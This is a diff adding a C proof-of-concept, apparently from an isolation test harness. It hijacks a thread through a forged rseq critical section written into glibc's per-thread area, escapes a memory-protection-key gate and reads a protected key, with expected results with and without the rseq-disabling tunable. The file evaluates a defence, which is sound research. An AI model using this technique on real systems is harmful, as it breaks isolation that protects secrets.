@@ -1,0 +1,91 @@
+/*
+ * rseq.c - an attack by restartable sequences (rseq(2), <linux/rseq.h>). glibc
+ * registers an area for every thread, in memory that anybody can write. At the
+ * next preemption the kernel finds there in which range of addresses the thread
+ * must not have been, and where it is to go on if it was.
+ */
+#include "attack.h"
+#include "needles.h"
+
+#include <pthread.h>
+#include <sched.h>
+#include <string.h>
+#include <sys/rseq.h>
+#include <time.h>
+#include <unistd.h>
+
+extern const char rseq_landing[];
+void rseq_landed(void);
+
+/* The rights are those of the place that it was taken from. */
+void rseq_landed(void)
+{
+    cell(needles_find(victim.target, NEEDLE_LEN) != NULL
+             ? "**key read**"
+             : "something else read");
+}
+
+static struct rseq_cs forged __attribute__((aligned(32)));
+
+static bool forge(const struct mapping *m, void *arg)
+{
+    uintptr_t inside = (uintptr_t)module_symbol("mpk_gate");
+
+    (void)arg;
+    if (inside - (uintptr_t)m->start >= m->len) {
+        return false;
+    }
+    forged.start_ip = (uintptr_t)m->start;
+    forged.post_commit_offset = m->len;
+    forged.abort_ip = (uintptr_t)rseq_landing;
+    return true;
+}
+
+static void *sign_for_ever(void *arg)
+{
+    for (;;) {
+        victim_sign();
+    }
+    return arg;
+}
+
+/* With the signing thread on this CPU, so that waking up preempts it. */
+static void send_elsewhere(void)
+{
+    struct rseq *area;
+    pthread_t thread;
+    cpu_set_t one;
+    time_t end;
+
+    victim_ready();
+    search_maps(forge, NULL);
+    if (forged.start_ip == 0) {
+        trouble("no code of the module");
+    }
+    CPU_ZERO(&one);
+    CPU_SET(sched_getcpu(), &one);
+    if (sched_setaffinity(0, sizeof(one), &one) != 0 ||
+        pthread_create(&thread, NULL, sign_for_ever, NULL) != 0) {
+        trouble("a thread");
+    }
+    area = (struct rseq *)((char *)thread + __rseq_offset);
+    end = time(NULL) + 3;
+    while (time(NULL) < end) {
+        *(volatile __u64 *)&area->rseq_cs = (uintptr_t)&forged;
+        usleep(1000);
+    }
+    cell("it stays where it is");
+}
+
+const struct attack rseq_attacks[] = {
+    {"rseq", "T1: `rseq(2)`",
+     "writes to the area that libc registers for a thread, and the kernel "
+     "sends "
+     "the thread elsewhere while it is inside",
+     KEYS, send_elsewhere, .want = {NULL, "**key read**", "**key read**"}},
+    {"rseq_off", "the same, `glibc.pthread.rseq=0`", "the same", KEYS,
+     send_elsewhere,
+     .want = {NULL, "it stays where it is", "it stays where it is"},
+     .tunables = "glibc.pthread.rseq=0"},
+    {0},
+};
